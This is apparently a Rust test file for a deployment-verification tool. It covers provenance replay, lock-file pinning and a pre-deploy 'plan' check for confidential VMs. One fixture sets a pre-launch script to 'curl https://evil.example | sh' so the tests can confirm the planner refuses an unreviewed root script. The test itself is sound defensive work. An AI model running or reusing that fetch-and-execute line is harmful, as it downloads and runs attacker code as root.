//! Statements without the network: replays, files, locks, and the plan of a deployment.

use super::*;

#[test]
fn a_replay_decides_alike_and_asks_nobody() {
    let release = Release::of(github(Workflow::default()));
    let evidence = release.deployment.path("evidence.json");
    let rules = [REPOSITORY, WORKFLOW, TAGS];
    let mut args: Vec<&str> = rules.to_vec();
    let option = format!("--evidence={evidence}");
    args.push(&option);
    let live = release.verify(&args);
    live.assert(SourceProvenance, Pass, None);
    let asked = release.api.requests().len();
    let replay = |rules: &[&str]| {
        let mut args = release.deployment.replay_args(&[
            "replay",
            &evidence,
            "--format=json",
            &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
        ]);
        args.extend(rules.iter().map(|rule| (*rule).to_owned()));
        run(&args)
    };
    let replayed = replay(&rules);
    assert_eq!(replayed.check(SourceProvenance), live.check(SourceProvenance));
    replay(&["--source-repository=other/repo"]).assert(SourceProvenance, Fail, Some("other-repository"));
    assert_eq!(release.api.requests().len(), asked);
    // Without the rules at the time of recording there is nothing to judge.
    let bare = release.verify(&[&option]);
    assert_eq!(bare.code, 0);
    replay(&rules).assert(SourceProvenance, Error, Some("not-recorded"));
}

#[test]
fn files_are_enough_and_then_nobody_is_asked() {
    let release = Release::of(github(Workflow::default()));
    let path = release.deployment.path("bundles.jsonl");
    let lines: Vec<String> = IMAGES
        .iter()
        .map(|(_, digest)| bundle(&Workflow::default(), digest).to_string())
        .collect();
    std::fs::write(&path, lines.join("\n")).unwrap();
    let option = format!("--provenance-bundle={path}");
    let ran = release.verify(&[REPOSITORY, WORKFLOW, TAGS, &option]);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(release.api.requests().len(), 0);
    // Thirty statements of another kind about the images, as a scanner makes: they end no look-up, and hide no answer of it.
    let scans: Vec<String> = IMAGES
        .iter()
        .flat_map(|(_, digest)| {
            let mut scan = Workflow::default().provenance("image", digest);
            scan["predicateType"] = json!("https://spdx.dev/Document");
            let bundle = sigstore().sign(&Workflow::default(), &scan).to_string();
            std::iter::repeat_n(bundle, 30)
        })
        .collect();
    std::fs::write(&path, scans.join("\n")).unwrap();
    let ran = release.verify(&[REPOSITORY, WORKFLOW, TAGS, &option]);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(release.api.requests().len(), 2);
    // And where nobody has the right one, they convict.
    let wrong = Release::of(ScriptedServer::http(|_| {
        Scripted::json(json!({ "attestations": [] }))
    }));
    let ran = wrong.verify(&[REPOSITORY, WORKFLOW, TAGS, &option]);
    ran.assert(SourceProvenance, Fail, Some("other-predicate"));
    std::fs::write(&path, "no bundle").unwrap();
    release
        .verify(&[REPOSITORY, &option])
        .assert_usage_error("it is neither a Sigstore bundle");
}

#[test]
fn pin_writes_who_built_the_images_and_the_lock_expects_exactly_that() {
    let release = Release::of(github(Workflow::default()));
    let lock = release.deployment.path("cvm.lock");
    let args = release.deployment.network_args(&[
        "pin",
        &release.deployment.app.url(),
        &format!("--output={lock}"),
        "--accept-observed",
        &format!("--source-api-url={}", release.api.url()),
        REPOSITORY,
        &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
    ]);
    let pinned = run(&args);
    assert_eq!(pinned.code, 0, "{pinned:#?}");
    let text = std::fs::read_to_string(&lock).unwrap();
    for line in [
        "[[sources]]",
        "image = \"ghcr.io/example/web\"",
        "repository = \"example/shop\"",
        "repository_id = \"804070735\"",
        "workflow = \".github/workflows/release.yml\"",
        "ref = \"refs/tags/v1.4.0\"",
        "commit = \"95baf2766ce4c0cb4a4a2bd7b0ee4ce61f0ba012\"",
    ] {
        assert!(text.contains(line), "{line}: {text}");
    }
    let verify = |release: &Release, more: &[&str]| {
        let mut args = release.deployment.network_args(&[
            "verify",
            &release.deployment.app.url(),
            "--format=json",
            &format!("--lock={lock}"),
        ]);
        args.extend(release.args(more));
        run(&args)
    };
    let good = verify(&release, &["--require-assurance=code+source"]);
    assert_eq!(good.code, 0, "{good:#?}");
    good.assert(SourceProvenance, Pass, None);
    let rebuilt = Release::of(github(Workflow {
        commit: "2".repeat(40),
        ..Workflow::default()
    }));
    verify(&rebuilt, &[]).assert(SourceProvenance, Fail, Some("other-commit"));
    // A release gives its own commit, and keeps the rest of the lock. With the repository, too.
    let commit = format!("--source-commit={}", "2".repeat(40));
    verify(&rebuilt, &[&commit]).assert(SourceProvenance, Pass, None);
    verify(&rebuilt, &[REPOSITORY, &commit]).assert(SourceProvenance, Pass, None);
    verify(&release, &[REPOSITORY, &commit]).assert(SourceProvenance, Fail, Some("other-commit"));
    verify(&release, &[REPOSITORY, "--source-ref=refs/heads/main"]).assert(
        SourceProvenance,
        Fail,
        Some("other-ref"),
    );
    // The tag of the locked commit goes with it: the next release has another one.
    let next = |git_ref: &str| {
        Release::of(github(Workflow {
            commit: "2".repeat(40),
            git_ref: git_ref.to_owned(),
            ..Workflow::default()
        }))
    };
    let (tagged, pull) = (next("refs/tags/v1.5.0"), next("refs/pull/7/merge"));
    for more in [&[commit.as_str()][..], &[REPOSITORY, &commit]] {
        verify(&tagged, more).assert(SourceProvenance, Pass, None);
        verify(&pull, more).assert(SourceProvenance, Fail, Some("other-ref"));
    }
    verify(&tagged, &[]).assert(SourceProvenance, Fail, Some("other-ref"));
    verify(&tagged, &[&commit, "--source-ref=refs/heads/main"]).assert(
        SourceProvenance,
        Fail,
        Some("other-ref"),
    );
    // A pattern was written by a person, and stays.
    let by_hand = text.replace("ref = \"refs/tags/v1.4.0\"", "ref = \"refs/tags/*\"");
    assert_ne!(by_hand, text);
    std::fs::write(&lock, by_hand).unwrap();
    verify(&tagged, &[&commit]).assert(SourceProvenance, Pass, None);
    verify(&next("refs/heads/main"), &[&commit]).assert(SourceProvenance, Fail, Some("other-ref"));
}

/// The ref of a reusable workflow is that of the workflow that the lock names, and goes with it.
#[test]
fn another_workflow_takes_the_ref_of_the_locked_one_away() {
    let release = Release::of(github(Workflow::default()));
    let lock = release.deployment.path("cvm.lock");
    let hash = "0".repeat(64);
    let sources: String = IMAGES
        .iter()
        .map(|(image, _)| {
            format!(
                "[[sources]]\nimage = \"{image}\"\nrepository = \"example/shop\"\n\
                 workflow = \"other/shared/.github/workflows/b.yml\"\nworkflow_ref = \"refs/tags/v1\"\n"
            )
        })
        .collect();
    std::fs::write(
        &lock,
        format!("schema = \"cvm-verify/lock/v1\"\ncompose_hash = \"{hash}\"\n{sources}"),
    )
    .unwrap();
    let locked = format!("--lock={lock}");
    let judged = |more: &[&str]| release.verify(&[&[locked.as_str()], more].concat());
    judged(&[]).assert(SourceProvenance, Fail, Some("other-workflow"));
    judged(&[WORKFLOW]).assert(SourceProvenance, Pass, None);
}

#[test]
fn nothing_is_pinned_of_images_that_somebody_else_built() {
    let release = Release::of(github(Workflow::default()));
    let lock = release.deployment.path("cvm.lock");
    let pinned = run(&release.deployment.network_args(&[
        "pin",
        &release.deployment.app.url(),
        &format!("--output={lock}"),
        "--accept-observed",
        "--source-repository=other/repo",
        &format!("--source-api-url={}", release.api.url()),
        &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
    ]));
    assert_eq!(pinned.code, 1, "{pinned:#?}");
    pinned.assert_stderr("who built the images is not proven");
    assert!(!std::path::Path::new(&lock).exists());
}

#[test]
fn a_plan_says_before_the_deploy_what_will_be_measured_and_who_built_it() {
    let release = Release::of(github(Workflow::default()));
    let cvm = without_script(Cvm::healthy(&World::default()));
    let document = release.deployment.path("app-compose.json");
    std::fs::write(&document, &cvm.app_compose).unwrap();
    let plan = |more: &[&str]| {
        let mut args = vec![
            "plan".to_owned(),
            "--format=json".to_owned(),
            "--allow-private-network".to_owned(),
            format!("--app-compose-file={document}"),
        ];
        args.extend(release.args(more));
        run(&args)
    };
    let ready = plan(&[REPOSITORY, WORKFLOW, TAGS]);
    assert_eq!(ready.code, 0, "{ready:#?}");
    let said: Value = serde_json::from_str(&ready.stdout).unwrap();
    assert_eq!(said["result"], "ready");
    assert_eq!(
        said["compose_hashes"][0]["compose_hash"],
        hex::encode(cvm.compose_hash())
    );
    assert_eq!(said["images"].as_array().unwrap().len(), 2);
    assert_eq!(said["provenance"]["status"], "pass");
    // What verify would not pass is not ready.
    let all = [REPOSITORY, WORKFLOW, TAGS, "--require-assurance=code+source"];
    assert_eq!(plan(&all).code, 0);
    for rules in [&all[3..], &[REPOSITORY, "--require-assurance=code+source"]] {
        let refused = plan(rules);
        assert_eq!(refused.code, 1, "{refused:#?}");
        refused.assert_stdout("The assurance code+source is not reached");
    }
    let refused = plan(&["--source-repository=other/repo"]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    let said: Value = serde_json::from_str(&refused.stdout).unwrap();
    assert_eq!(said["provenance"]["reason"], "other-repository");
    // An image by tag.
    let unpinned = simulator::app_compose::app_compose("services:\n  web:\n    image: nginx:1.27\n");
    std::fs::write(&document, unpinned).unwrap();
    let refused = plan(&[]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    refused.assert_stdout("nginx:1.27");
    // A variable that the document lets nobody set decides nothing; one that it allows does.
    let pinned = format!(
        "services:\n  web:\n    image: {}@sha256:{}\n    command: run $WHAT\n",
        IMAGES[0].0, IMAGES[0].1
    );
    let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
    members["pre_launch_script"] = json!("");
    members["allowed_envs"] = json!([]);
    std::fs::write(&document, members.to_string()).unwrap();
    assert_eq!(plan(&[]).code, 0, "{:#?}", plan(&[]));
    members["allowed_envs"] = json!(["WHAT"]);
    std::fs::write(&document, members.to_string()).unwrap();
    let refused = plan(&[]);
    assert_eq!(refused.code, 1, "{refused:#?}");
    refused.assert_stdout("services.web.command");
    run(&["plan"]).assert_usage_error("there is nothing to deploy");
}

/// What the document alone decides, a plan says as `verify` will.
#[test]
fn a_plan_refuses_what_the_document_makes_verify_refuse() {
    let folder = tempfile::tempdir().unwrap();
    let document = folder.path().join("app-compose.json");
    let pinned = format!(
        "services:\n  web:\n    image: {}@sha256:{}\n",
        IMAGES[0].0, IMAGES[0].1
    );
    let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
    members["pre_launch_script"] = json!("curl https://evil.example | sh");
    members["public_logs"] = json!(true);
    let plan = |members: &Value, more: &[&str]| {
        std::fs::write(&document, members.to_string()).unwrap();
        let mut args = vec![
            "plan".to_owned(),
            "--format=json".to_owned(),
            format!("--app-compose-file={}", document.display()),
        ];
        args.extend(more.iter().map(|arg| (*arg).to_owned()));
        let ran = run(&args);
        let said: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|_| panic!("{ran:#?}"));
        (ran.code, said)
    };
    let holds = |list: &Value, words: &str| {
        let mut lines = list.as_array().unwrap().iter().filter_map(Value::as_str);
        lines.any(|line| line.contains(words))
    };
    let script = "launch-inputs: Not reviewed: an unknown pre-launch script runs as root";
    let (code, said) = plan(&members, &["--launch-inputs=required"]);
    assert_eq!((code, said["result"].as_str()), (1, Some("refused")), "{said:#}");
    assert!(holds(&said["refused"], script), "{said:#}");
    assert!(holds(&said["refused"], "anyone can read the logs"), "{said:#}");
    let (code, said) = plan(&members, &["--launch-inputs=warn"]);
    assert_eq!((code, said["result"].as_str()), (0, Some("ready")), "{said:#}");
    assert!(holds(&said["notes"], script), "{said:#}");
    let (code, said) = plan(&members, &["--launch-inputs=unchecked"]);
    assert_eq!(code, 0, "{said:#}");
    assert!(!holds(&said["notes"], "pre-launch script runs"), "{said:#}");

    // Keys from no KMS: refused unless that is what is expected.
    members["kms_enabled"] = json!(false);
    members["local_key_provider_enabled"] = json!(false);
    let (code, said) = plan(&members, &[]);
    assert_eq!(code, 1, "{said:#}");
    assert!(
        holds(
            &said["refused"],
            "key-provider: The document takes the VM's keys from `none`"
        ),
        "{said:#}"
    );
    let (code, said) = plan(&members, &["--key-provider=phala"]);
    assert_eq!(code, 1, "{said:#}");
    assert!(holds(&said["refused"], "--key-provider expects"), "{said:#}");
    assert_eq!(plan(&members, &["--key-provider=none"]).0, 0);

    // Keys from a KMS: refused where every expected provider is another kind. Which KMS it is, the host decides.
    members["kms_enabled"] = json!(true);
    for (expected, code) in [
        ("none", 1),
        ("tpm", 1),
        ("local-sgx:aaaa", 1),
        ("phala", 0),
        ("kms", 0),
        ("none,kms:abcd", 0),
        ("unchecked", 0),
    ] {
        let option = format!("--key-provider={expected}");
        let (found, said) = plan(&members, &[&option]);
        assert_eq!(found, code, "{expected}: {said:#}");
        let words = "key-provider: The document takes the VM's keys from a KMS; --key-provider expects";
        assert_eq!(holds(&said["refused"], words), code == 1, "{expected}: {said:#}");
    }

    // An instance id that is expected, and that the guest will not have.
    let id = format!("--instance-id={}", "aa".repeat(20));
    assert_eq!(plan(&members, &[&id]).0, 0);
    members["no_instance_id"] = json!(true);
    assert_eq!(plan(&members, &[]).0, 0);
    let (code, said) = plan(&members, &[&id]);
    assert_eq!(code, 1, "{said:#}");
    assert!(
        holds(
            &said["refused"],
            "instance-id: The document asks for no instance id"
        ),
        "{said:#}"
    );
    members["no_instance_id"] = json!(false);

    // A rule of who must have built an image that does not run.
    let config = folder.path().join("rules.toml");
    std::fs::write(
        &config,
        "[[target]]\nname = \"a\"\nurl = \"https://a.example\"\n[[target.images]]\nimage = \"ghcr.io/acme/app\"\nrepository = \
         \"acme/app\"\n",
    )
    .unwrap();
    let config = format!("--config={}", config.display());
    let (code, said) = plan(&members, &[&config, "--target=a"]);
    assert_eq!((code, said["result"].as_str()), (1, Some("refused")), "{said:#}");
    assert_eq!(said["provenance"]["reason"], "unused-rule");
    assert!(
        holds(
            &said["refused"],
            "source-provenance: the rule for ghcr.io/acme/app"
        ),
        "{said:#}"
    );

    // GPUs that are expected, and that the guest does not attest.
    members["requirements"] = json!({ "gpu_policy": { "attest_gpu": false } });
    assert_eq!(plan(&members, &[]).0, 0);
    let (code, said) = plan(&members, &["--gpu=required"]);
    assert_eq!(code, 1, "{said:#}");
    assert!(holds(&said["refused"], "`attest_gpu: false`"), "{said:#}");
}
